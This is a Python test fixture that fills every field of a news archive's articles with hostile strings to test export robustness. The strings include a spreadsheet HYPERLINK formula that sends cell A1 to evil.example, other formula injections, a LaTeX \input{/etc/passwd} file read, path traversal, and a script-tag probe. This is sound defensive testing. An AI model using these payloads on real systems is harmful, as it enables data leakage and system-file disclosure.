"""An archive of what a page that means ill prints, in every field that an export writes."""

from dataclasses import replace
from pathlib import Path

from crawler.normalisation.digest import compute_digest
from support.gazette import AUTHORS, ArchiveBuilder, article

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"prize")',
    "+1+1",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\n@cmd",
    "a;=1+1;b",
    'a",=1+1,"b',
    'a;"=1+1";b',
    "- one\n- two",
    "bell\x07 escape\x1b[2J nul\x00 end",
    "line\nbreak\r\nand\rreturn",
    "two\u2028lines\u2029",
    "\ufeffmark \ufffe\uffff",
    "<script>alert(1)</script>&amp;]]>",
    "}{\\input{/etc/passwd}%",
    "TY  - JOUR\nER  - ",
    "עברית \u202edrow\u202c",
    "😀𠮷",
    "m" * 1_000_000,
    "../../etc/passwd",
    "CON",
    " ",
    "'quoted'",
)
"""Headlines, bylines, kickers, leads of a page that means ill, or was typed carelessly."""


def build_hostile_archive(path: Path) -> None:
    """Make an archive whose articles hold each of these everywhere."""
    press = ArchiveBuilder(path)
    for number, text in enumerate(HOSTILE):
        made = article(press.room, number, "en")
        short = text[:2000]
        author = replace(AUTHORS["en"][0], name=short, sort_name=short, printed=short)
        made = replace(
            made,
            headline=text,
            byline=short,
            lead=short,
            kicker=short,
            dateline=short,
            dateline_place=short,
            body=f"{short}\n\nThe end.",
            authors=(author,),
            dateline_agencies=(short,),
        )
        press.print(replace(made, digest=compute_digest(text, short, short, made.body, "en")))
    press.close()
